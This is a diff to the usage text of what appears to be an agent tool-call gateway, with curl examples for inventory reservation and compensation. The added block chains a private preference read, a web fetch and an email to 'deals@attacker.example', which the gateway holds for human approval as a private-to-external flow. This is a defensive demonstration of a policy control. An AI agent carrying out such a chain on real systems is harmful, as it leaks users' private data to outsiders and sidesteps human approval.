@@ -305,4 +305,11 @@ cancellation and compensation (docs/transactions.md):
   curl -s -X POST http://127.0.0.1:{p}/v1/tool-calls -H 'Content-Type: application/json' -H 'Idempotency-Key: rsv-1' \\
        -d '{{"call_id":"c6","tool":"reserve_inventory","arguments":{{"sku":"sku_widget","quantity":2,"order_id":"ord_1001"}}}}'
   curl -s -X POST 'http://127.0.0.1:{p}/v1/operations/rsv-1:compensate?tool=reserve_inventory'
+data flow (docs/policy-authors.md#flow): a private read, then a web page, then an email out waits for a person:
+  for body in '{{"call_id":"f1","tool":"get_user_preferences","arguments":{{"user_ref":"usr_alice"}}}}' \\
+      '{{"call_id":"f2","tool":"fetch_page","arguments":{{"url":"https://shop.example/offers"}}}}' \\
+      '{{"call_id":"f3","tool":"send_email","arguments":{{"to":"deals@attacker.example","subject":"hi","body":"en"}}}}'
+  do curl -s -X POST http://127.0.0.1:{p}/v1/tool-calls -H 'Content-Type: application/json' \\
+       -H 'X-Run-Id: flow-1' -d "$body"; echo; done
+  # the send: approval_required (the approver sees flow_private_to_external); under X-Run-Id: flow-2 too
 {approvals}""", flush=True)
